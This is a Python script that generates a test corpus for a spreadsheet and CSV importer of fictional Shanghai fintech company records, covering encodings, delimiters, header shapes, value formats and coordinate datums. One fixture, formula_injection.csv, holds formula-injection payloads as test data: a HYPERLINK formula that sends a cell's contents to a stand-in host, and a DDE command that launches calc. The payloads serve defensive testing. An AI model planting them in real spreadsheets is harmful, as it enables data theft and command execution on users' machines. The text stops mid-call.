"""Writes the import corpus: good/ and bad/, each file beside NAME.EXT.expected.json. See README.md.

    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install -r tests/imports/requirements.txt
    /tmp/venv/bin/python tests/imports/make.py

Deterministic: seeds are fixed and dates are taken out of archives. What is expected follows from how the rows are made
(a company of places.py agrees with itself, and each file then spoils a known number of cells), not from running the
program.
"""

import datetime
import html
import io
import json
import pathlib
import random
import shutil
import struct
import sys
import zlib
from unittest import mock

import openpyxl
import xlwt
from odf import opendocument, style as odf_style, table as odf_table, text as odf_text, number as odf_number

sys.dont_write_bytecode = True

import places
from places import DISTRICTS, DISTRICTS_EN, INNER, firms, uscc, uscc_check
from writers import (
    HEAD, MAIN, Book, Err, Formula, Inline, Num, Raw, deflated, geopackage, gpkg_point, gpkg_square, rezipped,
    shapefile_parts, sqlite_bytes, zip_with, zipped, WKT_4326,
)

HERE = pathlib.Path(__file__).resolve().parent
MADE = []


# --- writing --------------------------------------------------------------------------------------------------------


def write(folder, name, data, expected):
    path = HERE / folder / name
    assert not path.exists(), path
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    text = json.dumps(expected, ensure_ascii=False, indent=1) + "\n"
    (HERE / folder / f"{name}.expected.json").write_text(text, "utf-8")
    MADE.append((folder, name))


def good(name, data, rows, why, refused=0, encoding=None, header_row=None, sheet=None, datum=None, findings=None,
         first=None, **more):
    expected = {"rows": rows, "new": rows - refused, "refused": refused}
    if encoding:
        expected["encoding"] = encoding
    if sheet:
        expected["sheet"] = sheet
    if (encoding or sheet) and header_row != 0:
        expected["header_row"] = header_row or 1
    if datum:
        expected["datum"] = datum
    findings = {code: n for code, n in sorted((findings or {}).items()) if n}
    write("good", name, data, expected | {"findings": findings, "first": first or {}} | more | {"why": why})


def text(name, data, rows, why, encoding="utf-8", **more):
    """A good text file; `data` may be bytes already."""
    good(name, data, rows, why, encoding=encoding, **more)


def bad(name, data, error, why, **more):
    write("bad", name, data, {"error": error} | more | {"why": why})


# --- tables ---------------------------------------------------------------------------------------------------------

COLUMNS = {
    "name_zh": ("企业名称", lambda f: f.name),
    "uscc": ("统一社会信用代码", lambda f: f.uscc),
    "office_district": ("所在区", lambda f: f.district),
    "office_address": ("地址", lambda f: f.address),
    "lon": ("经度", lambda f: f"{f.lon:.6f}"),
    "lat": ("纬度", lambda f: f"{f.lat:.6f}"),
    "founded": ("成立日期", lambda f: f.founded),
    "registered_capital_wan_cny": ("注册资本（万元）", lambda f: str(f.capital)),
    "employees": ("员工人数", lambda f: str(f.employees)),
    "tracks": ("技术赛道", lambda f: f.track_zh),
}
BASIC = ["name_zh", "uscc", "office_district", "office_address", "founded", "registered_capital_wan_cny", "employees",
         "tracks"]
SHORT = ["name_zh", "uscc", "office_district", "founded", "registered_capital_wan_cny"]
PLACED = ["name_zh", "uscc", "office_district", "lon", "lat"]
UNKNOWN_DATUM = {"datum-unknown": 1}


def header(fields):
    return [COLUMNS[f][0] for f in fields]


def line(firm, fields):
    return [COLUMNS[f][1](firm) for f in fields]


def table(some, fields):
    return [header(fields)] + [line(f, fields) for f in some]


def quoted(cell, delimiter):
    return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in (delimiter, '"', "\n", "\r")) else cell


def joined(rows, delimiter=",", end="\n"):
    return "".join(delimiter.join(quoted(c, delimiter) for c in row) + end for row in rows)


def serial(iso, since=datetime.date(1899, 12, 30)):
    return (datetime.date.fromisoformat(iso) - since).days


def typed(firm, fields):
    """Cells as a spreadsheet holds them: numbers and dates where they are ones."""
    cells = {
        "lon": firm.lon, "lat": firm.lat, "founded": Num(serial(firm.founded), 1),
        "registered_capital_wan_cny": firm.capital, "employees": firm.employees,
    }
    return [cells.get(f, COLUMNS[f][1](firm)) for f in fields]


def typed_table(some, fields):
    return [header(fields)] + [typed(f, fields) for f in some]


def column_of(values, spoiled):
    """Rows of name and value, one company a value, under the header `spoiled`; and the companies."""
    some = firms(len(values), 300)
    rows = [["企业名称", spoiled]] + [[f.name, v] for f, v in zip(some, values)]
    return rows, some


# --- good: encodings, lines, delimiters -----------------------------------------------------------------------------


def encodings():
    some = firms(6)
    rows, first = table(some, BASIC), some[0].expect(BASIC)
    text("utf8.csv", joined(rows), 6, "plain UTF-8, LF", first=first)
    text("utf8_bom.csv", b"\xef\xbb\xbf" + joined(rows, end="\r\n").encode(), 6,
         "UTF-8 with byte-order mark and CRLF, as Excel's «CSV UTF-8» saves", first=first)
    text("gbk.csv", joined(rows, end="\r\n").encode("gbk"), 6, "GBK, as a Chinese Excel saves CSV",
         encoding="gb18030", first=first)
    four = firms(3)
    for f, rare in zip(four, ["㐀", "𠮷", "䲟"]):
        f.name = f"上海测试{rare}江金融科技有限公司"
    data = joined(table(four, BASIC), end="\r\n").encode("gb18030")
    assert "𠮷".encode("gb18030") in data and len("𠮷".encode("gb18030")) == 4 == len("㐀".encode("gb18030"))
    text("gb18030_four_bytes.csv", data, 3, "GB18030 with characters of four bytes, which GBK has not",
         encoding="gb18030", first=four[0].expect(BASIC))
    text("gb18030_bom.csv", b"\x84\x31\x95\x33" + data, 3, "GB18030 behind its own byte-order mark",
         encoding="gb18030", first=four[0].expect(BASIC))

    trad = [["企業名稱", "統一社會信用代碼", "所在區", "成立日期", "註冊資本（萬元）", "員工人數"]]
    big5_names = ["上海測試澄江金融科技有限公司", "上海測試雲杉數據服務有限公司", "上海測試遠帆信息科技有限公司"]
    for f, n in zip(some, big5_names):
        trad.append([n, f.uscc, str(f.adcode), f.founded, str(f.capital), str(f.employees)])
    first_trad = some[0].expect(SHORT + ["employees"]) | {"name_zh": big5_names[0]}
    text("big5.csv", joined(trad, end="\r\n").encode("big5"), 3, "Big5 with traditional headers; almost every Big5 "
         "text is also valid GB18030, so only the headers tell; names stay traditional", encoding="big5",
         first=first_trad)
    text("traditional_utf8.csv", joined(trad), 3, "traditional headers in UTF-8", first=first_trad)
    cells = [("甲", "黃浦區", "5000萬元"), ("乙", "徐匯區", "1.5億元"), ("丙", "長寧區", "3億"), ("丁", "靜安區", "800萬"), ("戊", "浦東新區", "900")]
    values_t = [["企業名稱", "所在區", "註冊資本"]] + [[f"上海測試{n}有限公司", d, m] for n, d, m in cells]
    text("big5_values.csv", joined(values_t).encode("big5"), 5,
         "Big5 with traditional district names and units: an editor wants them understood without a word",
         encoding="big5", first={"name_zh": "上海測試甲有限公司", "office_district": 310101},
         all={"office_district": [310101, 310104, 310105, 310106, 310115], "registered_capital_wan_cny": [5000, 15000, 30000, 800, 900]},
         findings={"unit-assumed": 1}, uncertain="traditional district names and 萬/億 are a wish")

    text("utf16le_bom.txt", b"\xff\xfe" + joined(rows, "\t", "\r\n").encode("utf-16-le"), 6,
         "Excel's «Unicode text»: UTF-16LE, tabs, CRLF", encoding="utf-16le", first=first)
    text("utf16be_bom.csv", b"\xfe\xff" + joined(rows).encode("utf-16-be"), 6, "UTF-16BE with commas",
         encoding="utf-16be", first=first)


def lines_and_delimiters():
    some = firms(5, 10)
    rows, first = table(some, BASIC), some[0].expect(BASIC)
    text("crlf.csv", joined(rows, end="\r\n"), 5, "CRLF", first=first)
    text("cr_only.csv", joined(rows, end="\r"), 5, "CR alone, as old Macs end lines", first=first)
    ends = ["\r\n", "\n", "\r", "\n", "\r\n", "\r"]
    text("mixed_line_ends.csv", "".join(joined([r], end=e) for r, e in zip(rows, ends)), 5,
         "CRLF, LF and CR in one file", first=first)
    text("no_final_newline.csv", joined(rows).rstrip("\n"), 5, "the last line has no end; its row counts", first=first)
    text("tab.txt", joined(rows, "\t"), 5, "tabs, .txt", first=first)
    text("tab.tsv", joined(rows, "\t", "\r\n"), 5, "tabs, .tsv", first=first)
    text("semicolon.csv", joined(rows, ";"), 5, "semicolons, as an Excel of European settings saves", first=first)
    text("pipe.csv", joined(rows, "|"), 5, "vertical bars, as databases unload", first=first)

    fields = SHORT
    notes = ["第一行\n第二行，有逗号, 有“引号”", "一行", "甲\n\n乙", "", "末\n"]
    body = [line(f, fields) + [n] for f, n in zip(some, notes)]
    text("quoted_line_breaks.csv", joined([header(fields) + ["备注"]] + body, end="\r\n"), 5,
         "line breaks (LF) and commas inside quoted cells of a CRLF file; lines are counted through them",
         first=some[0].expect(fields) | {"note": notes[0]})
    odd = firms(3, 20)
    odd[0].name = '上海测试"澄江"金融科技有限公司'
    text("doubled_quotes.csv", joined([header(fields) + ["备注"]] + [line(f, fields) + ['他说"好"'] for f in odd]), 3,
         "doubled quotation marks in quoted cells", first=odd[0].expect(fields) | {"note": '他说"好"'})
    pasted = [line(f, fields) + [n] for f, n in zip(some, ["楼层：\n3楼", "无", "甲\t乙", "", "末"])]
    text("pasted_from_excel.tsv", joined([header(fields) + ["备注"]] + pasted, "\t", "\r\n"), 5,
         "what pasting a range of Excel gives: tabs, CRLF, cells with line breaks or tabs in quotation marks",
         first=some[0].expect(fields) | {"note": "楼层：\n3楼"})


# --- good: headers and shape ----------------------------------------------------------------------------------------


def headers():
    some = firms(5, 30)
    first = some[0].expect(SHORT)
    rows = table(some, SHORT)
    pad = lambda cells: cells + [""] * (len(SHORT) - len(cells))
    titles = [pad(["上海市金融科技企业名录（测试）"]), pad(["填报单位：测试处", "", "填报日期：2024年1月"])]
    text("titles_above.csv", joined(titles) + "\n" + joined([pad(["以下数据均为虚构"])] + rows), 5,
         "three titles and an empty line above the header", header_row=5, first=first)
    blank = ",".join([""] * len(SHORT)) + "\n"
    text("empty_rows.csv", joined(rows[:2]) + "\n" + blank + joined(rows[2:4]) + "   \n" + joined(rows[4:]) + blank, 5,
         "empty lines, rows of commas and a line of blanks between the rows are no rows", first=first)
    text("trailing_empty_columns.csv", joined([r + [""] * 6 for r in rows]), 5,
         "six columns without header and cells at the right end", first=first)
    text("columns_before.csv", joined([["", "序号"] + rows[0]] + [["", str(i)] + r for i, r in enumerate(rows[1:], 1)]),
         5, "an empty column and running numbers before the table", first=first)
    twice = [r[:1] + [r[0] if i == 0 else "别名" + str(i)] + r[1:] + ([COLUMNS["office_district"][0]] if i == 0 else ["测试区"])
             for i, r in enumerate(rows)]
    text("duplicate_headers.csv", joined(twice), 5, "企业名称 and 所在区 stand twice: the first column counts",
         findings={"second-column": 2}, first=first)
    english = [["Company Name", "Credit Code", "District", "Longitude", "Latitude", "Founded", "Registered Capital",
                "Employees", "Tracks"]]
    names = {"blockchain": "Blockchain", "payment": "Payment technology"}
    eight = firms(6, 40)
    for i, f in enumerate(eight):
        f.track = list(names)[i % 2]
        english.append([f.name, f.uscc, DISTRICTS_EN[f.adcode], str(f.lon), str(f.lat), f.founded, str(f.capital),
                        str(f.employees), names[f.track]])
    fields = PLACED + ["founded", "registered_capital_wan_cny", "employees", "tracks"]
    text("english_headers.csv", joined(english), 6, "English headers, districts and tracks", datum="wgs84",
         findings=UNKNOWN_DATUM | {"unit-assumed": 1}, first=eight[0].expect(fields))
    spaced = [["企 业 名 称", "统一社会\n信用代码", " 所　在　区 ", "成立\n日期", "注册\n资本\n（万元）"]] + rows[1:]
    text("spaced_headers.csv", joined(spaced, end="\r\n"), 5,
         "headers drawn apart with blanks (also full width) and broken over lines", first=first)
    marked = [["*企业名称（必填）", "统一社会信用代码：", "所在区*", "成立日期(YYYY-MM-DD)", "注册资本（万元，人民币）"]] + rows[1:]
    text("marked_headers.csv", joined(marked), 5, "stars, colons and hints in brackets, as forms to fill in have",
         first=first)
    text("names_only.csv", joined([["企业名称"]] + [[f.name] for f in some]), 5, "a bare list of names, one column",
         first={"name_zh": some[0].name, "office_district": None})
    extra = [rows[0]] + [r + (["多出"] if i in (1, 3) else []) for i, r in enumerate(rows[1:])]
    text("extra_cells.csv", joined(extra), 5, "two rows have a cell more than the header", findings={"extra-cells": 2},
         first=first)
    short = [rows[0]] + [r[:2] if i == 2 else r for i, r in enumerate(rows[1:])]
    text("short_rows.csv", joined(short), 5, "a row ends before the header does: what is missing is empty", first=first)
    unnamed = [rows[0]] + [["" if i == 1 and j == 0 else c for j, c in enumerate(r)] for i, r in enumerate(rows[1:])]
    text("no_name.csv", joined(unnamed), 5, "one row has no name and is refused; the rest is imported", refused=1,
         findings={"no-name": 1}, first=first)
    none = ["，，", "—", "无", "N/A", "/", "1", "……", "（续表）", "3M", "汇付", "UBS"]
    rows_none = [rows[0]] + [[n, "", f.district, f.founded, str(f.capital)] for n, f in zip(none, firms(len(none), 380))]
    text("names_of_nothing.csv", joined(rows_none), len(none),
         "what people write where a name is missing is no company; short names of letters and digits are", refused=8,
         findings={"not-a-name": 7, "note-row": 1}, first={"name_zh": "3M"}, all={"name_zh": none[-3:]})
    headless = [[""] + rows[0][:3] + [""] + rows[0][3:]] + [[""] + r[:3] + ["甲类"] + r[3:] for r in rows[1:]]
    text("column_without_head.csv", joined(headless), 5, "an empty column, and one with content but no head: told",
         findings={"unnamed-column": 1}, first=first)
    more = ["心情", "食堂", "停车位"]
    strange = [["序号"] + rows[0] + more] + [[str(i)] + r + ["好", "有", "12"] for i, r in enumerate(rows[1:], 1)]
    text("unknown_columns.csv", joined(strange), 5, "three columns nobody knows; 序号 is passed over in silence",
         findings={"unknown-column": 3}, first=first)
    many = [rows[0] + [f"指标{i:02d}" for i in range(95)]]
    many += [r + [str((i * 37 + j) % 100) for j in range(95)] for i, r in enumerate(rows[1:])]
    assert len(many[0]) == 100
    text("hundred_columns.csv", joined(many), 5, "100 columns, 95 of them unknown", findings={"unknown-column": 95},
         first=first)
    long = [rows[0] + ["全文"]] + [r + ["x" * 60_000 if i == 0 else "短"] for i, r in enumerate(rows[1:])]
    text("long_cell.csv", joined(long), 5, "a cell of 60,000 characters in a column nobody knows",
         findings={"unknown-column": 1}, first=first)
    evil = ['=HYPERLINK("http://example.invalid/?q="&A1,"点我")', "=cmd|'/c calc'!A1", "@SUM(1+1)", "+1+1", "-1+1"]
    text("formula_injection.csv", joined([rows[0] + ["备注"]] + [r + [e] for r, e in zip(rows[1:], evil)]), 5,
         "formulas as notes: kept as text, never worked out (and to be made harmless on export)",
         first=first | {"note": evil[0]}, all={"note": evil})


# --- good: values ---------------------------------------------------------------------------------------------------


def values():
    def one(name, spoiled, cells, field, expected, why, findings=None, **more):
        rows, some = column_of(cells, spoiled)
        text(name, joined(rows), len(cells), why, findings=findings,
             first={"name_zh": some[0].name, field: expected[0]}, all={field: expected}, **more)

    day = "2015-06-01"
    one("dates_text.csv", "成立日期",
        ["2015年6月1日", "2015.06.01", "20150601", "2015/6", "2015", day, "2015年6月", "2015/6/1", "２０１５年６月１日",
         "2015-13-01", "昨天", "2015-06-31"], "founded",
        [day, day, day, "2015-06", "2015", day, "2015-06", day, day, None, None, None],
        "dates as people write them; a month 13, a 31st of June and a word are none", {"bad-date": 3})
    one("dates_serial.csv", "成立日期", ["42156", "36526", "42156.5"], "founded", [day, "2000-01-01", day],
        "numbers Excel makes of dates, in text")
    one("dates_with_time.csv", "成立时间",
        ["2015-06-01 00:00:00", "2015/6/1 0:00", "2015/6/10 0:00:00", "2015-06-01T00:00:00", "2015-06-10 08:30:00"],
        "founded", [day, day, "2015-06-10", day, "2015-06-10"],
        "dates with a time, as Excel and databases write them; the 10th must not become the 1st")
    c = [uscc(310104, i) for i in range(900, 908)]
    forms = [c[0], c[1].lower(), "".join(chr(ord(x) + 0xFEE0) for x in c[2]), f"{c[3][:4]} {c[3][4:8]} {c[3][8:]}",
             "'" + c[4], f'="{c[5]}"', "\t" + c[6], f"{c[7][:8]}-{c[7][8:]}"]
    one("uscc_forms.csv", "统一社会信用代码", forms, "uscc", c,
        "a credit code as it is, in small letters, full width, with blanks, an apostrophe, as =\"…\", behind a tab, "
        "with a hyphen")
    wrong = uscc(310104, 920)
    wrong_digit = wrong[:-1] + ("0" if wrong[-1] != "0" else "1")
    assert wrong[11] == "0"
    one("uscc_faulty.csv", "统一社会信用代码", [uscc(310104, 921), wrong[:-1], "310104000123456", wrong[:11] + "O" + wrong[12:],
                                       wrong_digit], "uscc", [uscc(310104, 921), None, None, None, None],
        "17 characters, an old registration number of 15, the letter O for the digit 0, a wrong check digit",
        {"uscc-length": 2, "uscc-character": 1, "uscc-check-digit": 1})
    rounded = next(c[:15] + "000" for c in (uscc(310104, i, True) for i in range(11_234_567, 11_999_999, 1000))
                   if uscc_check(c[:15] + "00") != "0")
    one("uscc_float.csv", "统一社会信用代码", [uscc(310104, 930), "9.13101E+17", "9.1310104E+17", "9.13E+17", rounded], "uscc",
        [uscc(310104, 930), None, None, None, None],
        "codes of digits alone that Excel turned into rounded numbers, the last shown with zeros for the lost digits: "
        "not to be had back", {"float-code": 4})
    cases = [(310104, "徐汇区"), (310105, "徐汇区"), (310000, "浦东新区"), (310103, "黄浦区"), (310108, "静安")]
    some = firms(len(cases), 320)
    rows = [["企业名称", "统一社会信用代码", "所在区"]]
    rows += [[f.name, uscc(d, 940 + i), name] for i, (f, (d, name)) in enumerate(zip(some, cases))]
    text("uscc_district.csv", joined(rows), len(cases),
         "district digits of the code against the column: 310105 disagrees; 310000 is registered with the city, "
         " 310103 (卢湾) and 310108 (闸北) are the same districts under earlier codes: no disagreement",
         findings={"uscc-district": 1}, first={"name_zh": some[0].name, "uscc": rows[1][1], "office_district": 310104},
         all={"uscc": [r[1] for r in rows[1:]]})
    some = firms(2, 340)
    rows = [["企业名称", "统一社会信用代码", "所在区"]]
    rows += [[f.name, uscc(440305, 945 + i), "徐汇区"] for i, f in enumerate(some)]
    text("uscc_other_province.csv", joined(rows), 2,
         "codes of Shenzhen and an office in 徐汇: they disagree, though a company may well work outside of where it is "
         "registered", findings={"uscc-district": 2},
         first={"name_zh": some[0].name, "uscc": rows[1][1], "office_district": 310104},
         uncertain="a code of no district of the map may as well go without a word (0 findings)")
    some = firms(2, 330)
    rows = [["企业名称", "统一社会信用代码", "注册区", "所在区"], [some[0].name, uscc(310104, 950), "徐汇区", "浦东新区"],
            [some[1].name, uscc(310115, 951), "徐汇区", "徐汇区"]]
    text("uscc_district_registered.csv", joined(rows), 2,
         "a code speaks of the registered district: where that is declared, the office may be elsewhere",
         findings={"uscc-district": 1},
         first={"name_zh": some[0].name, "registered_district": 310104, "office_district": 310115},
         uncertain="row 1 finds one more if the code is compared with the office district")

    one("capital.csv", "注册资本",
        ["5,000", "5000万元", "1.5亿", "30000000元", "3000万人民币", "￥800", "800万元整", "1,234.56万", "100万美元", "500万港元",
         "USD 100万", "面议"], "registered_capital_wan_cny",
        [5000, 5000, 15000, 3000, 3000, 800, 800, 1234.56, None, None, None, None],
        "thousands separators, units in the cell, signs; three foreign currencies and a word are not taken",
        {"foreign-currency": 3, "bad-capital": 1, "unit-assumed": 1})
    one("capital_yi.csv", "注册资本（亿元）", ["3", "0.5", "8000万"], "registered_capital_wan_cny", [30000, 5000, 8000],
        "the header's unit is 亿元; a cell with a unit of its own keeps it")
    one("capital_yuan.csv", "注册资本(元)", ["12000000", "10,000,000.00"], "registered_capital_wan_cny", [1200, 1000],
        "the header's unit is 元")
    one("capital_foreign_header.csv", "注册资本（万美元）", ["100", "200"], "registered_capital_wan_cny", [None, None],
        "the header says the currency is foreign", {"foreign-currency": 2})
    one("employees.csv", "员工人数", ["50-99人", "100人以上", "1,200", "20~50", "120名", "500+", "1000至1999人", "１２０", "若干"],
        "employees", [50, 100, 1200, 20, 120, 500, 1000, 120, None],
        "people as recruiting sites write them: of a range the lower end; a word is none", {"bad-employees": 1, "employees-range": 5})
    one("tracks.csv", "技术赛道",
        ["大模型", "云计算", "支付", "监管科技", "区块链", "区块链;支付科技", "大模型、云计算", "量子计算", "Blockchain"], "tracks",
        [["ai-llm"], ["cloud-infra"], ["payment"], ["regtech"], ["blockchain"], ["blockchain", "payment"],
         ["ai-llm", "cloud-infra"], [], ["blockchain"]],
        "words that are nearly a track are taken for it and said so, one finding a word; 量子计算 is none",
        {"track-synonym": 6, "unknown-track": 1})
    one("tracks_more.csv", "标签", ["人工智能", "大数据", "征信", "网络安全", "财富科技", "供应链金融", "绿色金融", "合规科技"], "tracks",
        [["ai-llm"], ["data-credit"], ["data-credit"], ["cybersecurity"], ["wealth-asset"], ["supply-chain-finance"],
         ["green-fintech"], ["regtech"]],
        "more words that are plainly halves or short forms of a track's name", {"track-synonym": 8},
        uncertain="which synonyms there are is the program's choice")
    one("districts.csv", "所在区",
        ["浦东", "浦东新区", "310115", "310115000000", "卢湾区", "闸北", "南汇区", "崇明县", "上海市徐汇区", "Xuhui", "310106.0",
         " 虹 口 区 ", "南山区"], "office_district",
        [310115, 310115, 310115, 310115, 310101, 310106, 310115, 310151, 310104, 310104, 310106, 310109, None],
        "districts in every form; four no longer exist and are taken as their successors; 南山区 is not of the map",
        {"historic-district": 4, "unknown-district": 1})
    one("district_in_address.csv", "地址", ["上海市虹口区测试路1号", "上海市杨浦区测试路2号", "浦东新区测试大道3号", "上海市虹口区杨浦路1号"],
        "office_district", [310109, 310110, 310115, 310109],
        "the district only in the address; of two names the first counts", {"district-from-address": 4})
    one("address_only.csv", "地址", ["测试路88号", "浦东大道9号测试大厦", "上海市测试路7号", "黄浦江边测试码头"], "office_district",
        [None, None, None, None], "roads without a district: none is guessed, not even from 浦东大道")
    words = [["企业名称", "佐证", "可信度", "位置精度", "上市状态"]]
    some = firms(3, 340)
    words += [[some[0].name, "文件", "高", "楼宇", "未上市"], [some[1].name, "未核实", "低", "园区", ""],
              [some[2].name, "据说", "很高", "", "A股"]]
    text("words.csv", joined(words), 3, "words for evidence, confidence and accuracy; 据说 and 很高 are none",
         findings={"unknown-word": 2},
         first={"name_zh": some[0].name, "evidence": "document", "confidence": "high", "status": "未上市"})
    some = firms(2, 350)
    some[0].name = "上海测试ABC（澄江）科技有限公司"
    a, b = some
    rows = [["企业名称", "统一社会信用代码"], [a.name, a.uscc], ["上海测试另名科技有限公司", a.uscc], ["上海测试ＡＢＣ(澄江)科技有限公司", ""],
            [b.name, b.uscc], [" " + b.name[:4] + " " + b.name[4:], ""]]
    text("duplicates.csv", joined(rows), 5,
         "the same credit code under another name, the same name in full width, the same name with blanks: refused",
         refused=3, findings={"duplicate-in-file": 3}, first={"name_zh": a.name, "uscc": a.uscc})
    alike = ["上海测试砚屿科技有限公司", "上海测试砚屿科技有限公司浦东分公司", "上海测试砚屿支付有限公司", "上海测试砚峪科技有限公司",
             "北京测试砚屿科技有限公司", "上海测试砚屿(集团)有限公司", "上海测试砚屿一号投资合伙企业(有限合伙)",
             "上海测试砚屿二号投资合伙企业(有限合伙)", "上海测试砚屿十一号投资合伙企业(有限合伙)"]
    rows = [["企业名称", "统一社会信用代码"]] + [[n, uscc(310104, 980 + i)] for i, n in enumerate(alike)]
    text("near_duplicates.csv", joined(rows), len(alike),
         "branch, sister, homophone, other city, group and numbered funds, each with a code of its own: all are "
         "companies, none may be refused as a duplicate", first={"name_zh": alike[0], "uscc": rows[1][1]},
         all={"name_zh": alike})
    text("near_duplicates_no_code.csv", joined([r[:1] for r in rows]), len(alike), "the same names without codes",
         first={"name_zh": alike[0]}, all={"name_zh": alike})
    some = firms(5, 360)
    rows = table(some, SHORT)
    rows[2][1], rows[3][3], rows[3][4], rows[4][2], rows[5][0] = "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#REF!"
    text("errors_as_text.csv", joined(rows), 5,
         "error values of formulas in a CSV are empty cells; where the name is one, the row is refused",
         refused=1, findings={"formula-error": 5, "no-name": 1}, first=some[0].expect(SHORT))


# --- good: positions ------------------------------------------------------------------------------------------------


def shifted(some, datum):
    """Rows of name, district, lon and lat in a datum, six decimals."""
    out = []
    for f in some:
        lon, lat = places.FORWARD[datum](f.lon, f.lat)
        out.append((round(lon, 6), round(lat, 6), f))
    return out


def positions():
    head = ["企业名称", "所在区", "经度", "纬度"]
    fields = ["name_zh", "office_district", "lon", "lat"]
    for datum in ["wgs84", "gcj02", "bd09"]:
        some = firms(120, 400, near=(60, 400))
        rows = shifted(some, datum)
        assert places.decided([(x, y, f.adcode) for x, y, f in rows]) == datum
        text(f"{datum}_120.csv", joined([head] + [[f.name, f.district, f"{x:.6f}", f"{y:.6f}"] for x, y, f in rows]),
             120, f"120 positions in {datum} within 400 m of borders: the declared districts tell the datum",
             datum=datum, findings={"datum-converted": int(datum != "wgs84")}, first=some[0].expect(fields))
    some = firms(120, 600, near=(60, 400))
    rows = shifted(some, "gcj02")
    text("gcj02_swapped.csv", joined([head] + [[f.name, f.district, f"{y:.6f}", f"{x:.6f}"] for x, y, f in rows]), 120,
         "GCJ-02 with latitude under 经度 and longitude under 纬度: put right first, then the datum is told",
         datum="gcj02", findings={"datum-converted": 1, "swapped-coordinates": 120}, first=some[0].expect(fields))
    far = firms(120, 800, near=(2_500, 30_000), adcodes=[310112, 310114, 310115, 310117, 310118, 310120])
    rows = [(f.lon, f.lat, f.adcode) for f in far]
    assert places.decided(rows) is None
    text("undecidable.csv", joined([head] + [[f.name, f.district, f"{f.lon:.6f}", f"{f.lat:.6f}"] for f in far]), 120,
         "120 positions far from any border fit every datum: it cannot be told, and the program says so",
         datum="wgs84", findings=UNKNOWN_DATUM, first=far[0].expect(fields))

    some = firms(200, 1000, near=(60, 400))
    rng = random.Random(7)
    foreign = set(rng.sample(range(1, 200), 70))
    rows = shifted(some, "gcj02")
    declared = []
    for i, f in enumerate(some):
        others = [a for a in INNER if a != f.adcode]
        declared.append(rng.choice(others) if i in foreign else f.adcode)
    assert places.decided([(x, y, d) for (x, y, _), d in zip(rows, declared)]) == "gcj02"
    assert sum(places.locate(f.lon, f.lat) != d for f, d in zip(some, declared)) == 70
    text("foreign_declarations.csv",
         joined([head] + [[f.name, DISTRICTS[d], f"{x:.6f}", f"{y:.6f}"] for (x, y, f), d in zip(rows, declared)]), 200,
         "35 % of the rows declare another district than they lie in (registered here, working there): GCJ-02 is told "
         "all the same", datum="gcj02", findings={"datum-converted": 1, "other-district": 70},
         first=some[0].expect(fields))
    some = firms(300, 1300, near=(60, 400))
    rows, groups = [head + ["来源"]], {"高德": [], "统计": []}
    for i, f in enumerate(some):
        source, datum = [("高德", "gcj02"), ("统计", "wgs84")][i % 2]
        (x, y, _), = shifted([f], datum)
        groups[source].append((x, y, f.adcode))
        rows.append([f.name, f.district, f"{x:.6f}", f"{y:.6f}", source])
    assert {s: places.decided(g) for s, g in groups.items()} == {"高德": "gcj02", "统计": "wgs84"}
    text("mixed_by_source.csv", joined(rows), 300,
         "every second row is in GCJ-02 (来源 高德), the others in WGS 84 (来源 统计): told for each source, and only 高德 "
         "is converted", findings={"datum-converted": 1}, datum_by_source={"高德": "gcj02", "统计": "wgs84"},
         first=some[0].expect(fields) | {"source": "高德"})

    some = firms(5, 60)
    text("swapped.csv", joined([head] + [[f.name, f.district, f"{f.lat:.6f}", f"{f.lon:.6f}"] for f in some]), 5,
         "latitude under 经度 and longitude under 纬度", datum="wgs84",
         findings=UNKNOWN_DATUM | {"swapped-coordinates": 5}, first=some[0].expect(fields))
    some = firms(12, 70)
    rows = [["企业名称", "所在区", "X", "Y"]]
    rows += [[f.name, f.district, *(f"{v:.2f}" for v in places.mercator(f.lon, f.lat))] for f in some]
    text("mercator.csv", joined(rows), 12, "Web-Mercator metres (EPSG:3857) under X and Y; one finding a row, as for swapped ones",
         datum="wgs84", findings=UNKNOWN_DATUM | {"mercator": 12}, first=some[0].expect(fields))

    def dms(x, form):
        tenths = round(x * 36000)
        d, m, s = tenths // 36000, tenths // 600 % 60, tenths % 600 / 10
        return form.format(d=d, m=m, s=f"{s:g}"), tenths / 36000

    forms = [("{d}°{m}′{s}″E", "{d}°{m}′{s}″N"), ("{d}度{m}分{s}秒", "{d}度{m}分{s}秒"), ("{d} {m} {s}", "{d} {m} {s}"),
             ("{d}°{m}'{s}\"", "{d}°{m}'{s}\""), ("E{d}°{m}′{s}″", "N{d}°{m}′{s}″"), ("东经{d}度{m}分{s}秒", "北纬{d}度{m}分{s}秒"),
             ("{d}°{m}’{s}”E", "{d}°{m}’{s}”N"), ("{d}：{m}：{s}", "{d}:{m}:{s}")]
    some = firms(len(forms), 90)
    rows, lons, lats = [head], [], []
    for f, (east, north) in zip(some, forms):
        (x, lon), (y, lat) = dms(f.lon, east), dms(f.lat, north)
        rows.append([f.name, f.district, x, y])
        lons.append(round(lon, 7))
        lats.append(round(lat, 7))
    text("dms.csv", joined(rows), len(forms), "degrees, minutes and seconds in eight forms are just read", datum="wgs84",
         findings=UNKNOWN_DATUM, first=some[0].expect(fields) | {"lon": lons[0], "lat": lats[0]},
         all={"lon": lons, "lat": lats})
    some = firms(5, 110)
    ways = ["{x:.6f},{y:.6f}", "{x:.6f} {y:.6f}", "{x:.6f}，{y:.6f}", "({x:.6f}, {y:.6f})", "{y:.6f},{x:.6f}"]
    for name, title in [("one_column.csv", "坐标"), ("one_column_lon_lat.csv", "经纬度")]:
        rows = [["企业名称", "所在区", title]]
        rows += [[f.name, f.district, w.format(x=f.lon, y=f.lat)] for f, w in zip(some, ways)]
        text(name, joined(rows), 5, f"both coordinates in one column, {title}, apart by a comma, a blank, a full-width "
             "comma, in brackets; once the other way round", datum="wgs84",
             findings=UNKNOWN_DATUM | {"swapped-coordinates": 1}, first=some[0].expect(fields),
             all={"lon": [f.lon for f in some], "lat": [f.lat for f in some]})
    some = firms(8, 120)
    other = next(a for a in INNER if a != some[7].adcode)
    cells = [(some[0].district, some[0].lon, some[0].lat), ("", some[1].lon, ""), ("", "0", "0"), ("", "400", "31.2"),
             ("", "116.4", "39.9"), ("", "东", "31.2"), ("", some[6].lon, some[6].lat),
             (DISTRICTS[other], some[7].lon, some[7].lat)]
    rows = [head] + [[f.name, d, str(x), str(y)] for f, (d, x, y) in zip(some, cells)]
    text("coordinates_faulty.csv", joined(rows), 8,
         "one of two coordinates, a word, 0/0, 400°, Beijing, a position without district, one in another district",
